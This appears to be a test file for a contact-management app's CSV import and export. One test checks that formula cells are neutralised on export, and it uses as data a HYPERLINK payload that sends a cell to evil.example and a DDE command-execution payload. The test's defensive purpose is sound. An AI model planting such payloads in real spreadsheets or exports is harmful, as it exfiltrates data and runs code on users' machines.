import { activateFlow, createTestRuntime, flows } from '@scoreflow/runtime/testing';
import { sql } from '@scoreflow/store';
import { parse } from 'csv-parse/sync';
import { pino } from 'pino';
import request from 'supertest';
import { describe, expect, it } from 'vitest';
import { createApp } from '../app.js';
import { asAdmin, useTestApp } from '../testing.js';

const { app, runtime: t } = useTestApp({ runtime: true });

const importCsv = (csv: string, query = '') =>
  request(app()).post(`/api/contacts/import${query}`).set('content-type', 'text/csv').send(csv);

const countContacts = async () => {
  const { rows } = await sql<{ n: number }>`SELECT count(*) AS n FROM contacts`.execute(t().store.db);
  return Number(rows[0]?.n);
};

describe('CSV import and export', () => {
  it('imports 20,000 rows in one streamed request, keeping valid rows and naming bad lines', async () => {
    const lines = ['email,externalId,attributes,tags,lists,score:SCORE,plan'];
    for (let i = 0; i < 20_000; i++) {
      if (i === 10) lines.push('not-an-email,,,,,,');
      else if (i === 5000) lines.push(`p${i}@example.com,,{broken,,,,`);
      else if (i === 15000) lines.push(`p${i}@example.com,,,,,lots,`);
      else
        lines.push(
          `p${i}@example.com,crm-${i},"{""city"":""Oslo"",""n"":${i}}",lead;webinar,Newsletter,${i % 100},pro`,
        );
    }
    const res = await importCsv(`${lines.join('\n')}\n`).expect(200);
    expect(res.body).toMatchObject({ imported: 19_997, created: 19_997, failed: 3, startFlows: false });
    // Line numbers count the header as line 1, so row i sits on line i + 2.
    expect(res.body.errors).toEqual([
      { line: 12, message: 'email "not-an-email" is not an email address' },
      { line: 5002, message: 'attributes is not valid JSON' },
      { line: 15002, message: 'score:SCORE must be a number, not "lots"' },
    ]);
    expect(await countContacts()).toBe(19_997);
    const c = await t().store.contacts.findByEmail('p42@example.com');
    expect(c).toMatchObject({ externalId: 'crm-42', attributes: { city: 'Oslo', n: 42, plan: 'pro' } });
    expect(await t().store.tags.list(c?.id ?? '')).toEqual(['lead', 'webinar']);
    expect(await t().store.lists.list(c?.id ?? '')).toEqual(['Newsletter']);
    expect(await t().store.scores.get(c?.id ?? '', 'SCORE')).toBe(42);
    expect((await t().store.ledger.listForContact(c?.id ?? '', {}))[0]).toMatchObject({
      delta: 42,
      actor: 'csv-import',
    });
    // Imported changes start no flows unless asked to.
    expect(await t().store.events.listPending()).toEqual([]);

    const exported = await request(app()).get('/api/contacts/export.csv').expect(200);
    expect(exported.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parse(exported.text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(19_997);
    expect(rows.find((r) => r.email === 'p42@example.com')).toEqual({
      email: 'p42@example.com',
      externalId: 'crm-42',
      attributes: '{"city":"Oslo","n":42,"plan":"pro"}',
      tags: 'lead;webinar',
      lists: 'Newsletter',
      unsubscribed: '',
      'score:SCORE': '42',
    });

    // The export imports back unchanged: nothing is created, no score moves.
    const again = await importCsv(exported.text).expect(200);
    expect(again.body).toMatchObject({ imported: 19_997, created: 0, failed: 0 });
    expect(await t().store.ledger.listForContact(c?.id ?? '', {})).toHaveLength(1);
  }, 120_000);

  it('with ?startFlows=true, imported rows become contact.imported events that trigger flows', async () => {
    await activateFlow(
      t().store,
      flows.chain(
        'Welcome imports',
        ['trigger.event', { event: 'contact.imported' }],
        ['action.addTag', { tag: 'welcomed' }],
      ),
    );
    await activateFlow(
      t().store,
      flows.chain(
        'Plan',
        ['trigger.attributeChanged', { attribute: 'plan' }],
        ['action.addTag', { tag: 'has-plan' }],
      ),
    );
    const csv = 'email,plan\nann@example.com,pro\nbob@example.com,\n';
    await importCsv(csv, '?startFlows=false').expect(200);
    const ann = () => t().store.contacts.findByEmail('ann@example.com');
    expect(await t().store.tags.list((await ann())?.id ?? '')).toEqual([]);

    const res = await importCsv(
      'email,plan\nann@example.com,team\nbob@example.com,\n',
      '?startFlows=true',
    ).expect(200);
    expect(res.body).toMatchObject({ imported: 2, created: 0, failed: 0, startFlows: true });
    await t().until(
      async () =>
        (await t().store.events.listPending()).length === 0 &&
        (await t().store.tags.list((await ann())?.id ?? '')).length === 2,
      'flows',
    );
    expect(await t().store.tags.list((await ann())?.id ?? '')).toEqual(['has-plan', 'welcomed']);
    expect((await ann())?.attributes).toEqual({ plan: 'team' });
    const bob = await t().store.contacts.findByEmail('bob@example.com');
    expect(await t().store.tags.list(bob?.id ?? '')).toEqual(['welcomed']);
  });

  it('keeps the other rows of a batch when one names two different contacts, writing nothing of it', async () => {
    await t().store.contacts.upsertByIdentity({ email: 'x@example.com', externalId: 'crm-x' });
    await t().store.contacts.upsertByIdentity({ email: 'y@example.com', externalId: 'crm-y' });
    const res = await importCsv(
      [
        'email,externalId,tags,score:SCORE,plan',
        'ann@example.com,,lead,5,pro',
        'x@example.com,crm-y,lead,9,team',
        'ann@example.com,crm-ann,webinar,7,',
        '',
      ].join('\n'),
    ).expect(200);
    expect(res.body).toMatchObject({ imported: 2, created: 1, failed: 1 });
    expect(res.body.errors).toEqual([
      { line: 3, message: expect.stringMatching(/belong to two different contacts/) },
    ]);
    const ann = await t().store.contacts.findByExternalId('crm-ann');
    expect(ann).toMatchObject({ email: 'ann@example.com', attributes: { plan: 'pro' } });
    expect(await t().store.tags.list(ann?.id ?? '')).toEqual(['lead', 'webinar']);
    expect(await t().store.scores.get(ann?.id ?? '', 'SCORE')).toBe(7);
    const x = await t().store.contacts.findByEmail('x@example.com');
    expect(x?.attributes).toEqual({});
    expect(await t().store.tags.list(x?.id ?? '')).toEqual([]);
    expect(await t().store.scores.get(x?.id ?? '', 'SCORE')).toBeUndefined();
  });

  it('neutralises formula cells in the export, keeps negative scores as numbers, and imports back exactly', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    const dde = "+cmd|' /C calc'!A0";
    const { contact } = await t().store.contacts.upsertByIdentity({
      email: '-ann@example.com',
      externalId: hyperlink,
    });
    await t().store.tags.add(contact.id, dde);
    await t().store.tags.add(contact.id, 'lead');
    await t().store.lists.add(contact.id, '@SUM(1+9)');
    await t().store.scores.set(contact.id, 'SCORE', -5);
    const { contact: bob } = await t().store.contacts.upsertByIdentity({
      email: 'bob@example.com',
      externalId: "'=kept",
    });
    await t().store.tags.add(bob.id, '-1+2');
    await t().store.scores.set(bob.id, 'SCORE', 12);

    const exported = await request(app()).get('/api/contacts/export.csv').expect(200);
    const cells = parse(exported.text) as string[][];
    expect(cells[1]).toEqual([
      "'-ann@example.com",
      `'${hyperlink}`,
      '{}',
      `'${dde};lead`,
      "'@SUM(1+9)",
      '',
      '-5',
    ]);
    expect(cells[2]).toEqual(['bob@example.com', "''=kept", '{}', "'-1+2", '', '', '12']);
    for (const cell of cells.flat().filter((c) => c !== '-5')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // Imported into an empty installation, the file gives back the same contacts and the same file.
    const other = await createTestRuntime();
    try {
      const otherApp = await asAdmin(
        createApp({ store: other.store, logger: pino({ level: 'silent' }) }),
        other.store,
      );
      const res = await request(otherApp)
        .post('/api/contacts/import')
        .set('content-type', 'text/csv')
        .send(exported.text)
        .expect(200);
      expect(res.body).toMatchObject({ imported: 2, created: 2, failed: 0 });
      const ann = await other.store.contacts.findByEmail('-ann@example.com');
      expect(ann?.externalId).toBe(hyperlink);
      expect(await other.store.tags.list(ann?.id ?? '')).toEqual([dde, 'lead'].sort());
      expect(await other.store.lists.list(ann?.id ?? '')).toEqual(['@SUM(1+9)']);
      expect(await other.store.scores.get(ann?.id ?? '', 'SCORE')).toBe(-5);
      expect((await other.store.contacts.findByEmail('bob@example.com'))?.externalId).toBe("'=kept");
      const again = await request(otherApp).get('/api/contacts/export.csv').expect(200);
      expect(again.text).toBe(exported.text);
    } finally {
      await other.close();
    }
  });

  it('imports plain numbers and booleans typed, and ids and everything else as text', async () => {
    const csv = [
      'email,externalId,social_profiles,vip,churned,plan,ratio,debt,zip,customer_id,phone,big,code',
      'typed@example.com,4,4,true,FALSE,pro,0.5,-12,01234,123,+4712345678,12345678901234567890,1e3',
    ].join('\n');
    await importCsv(`${csv}\n`).expect(200);
    const c = await t().store.contacts.findByEmail('typed@example.com');
    expect(c?.externalId).toBe('4');
    expect(c?.attributes).toEqual({
      social_profiles: 4,
      vip: true,
      churned: false,
      plan: 'pro',
      ratio: 0.5,
      debt: -12,
      zip: '01234',
      customer_id: '123',
      phone: '+4712345678',
      big: '12345678901234567890',
      code: '1e3',
    });
    // Four profiles are the whole social part of the action score.
    const res = await request(app()).get(`/api/contacts/${c?.id}`).expect(200);
    expect(res.body.actionScore.parts.social).toBe(100);
  });

  it('takes text/csv only, and stops at broken CSV saying how many rows were kept', async () => {
    await request(app()).post('/api/contacts/import').send({ email: 'a@b.example' }).expect(415);
    const res = await importCsv('email\nok@example.com\n"unterminated@example.com\n').expect(400);
    expect(res.body.detail).toMatch(/the 1 rows before it were imported/);
    expect(await countContacts()).toBe(1);
  });
});
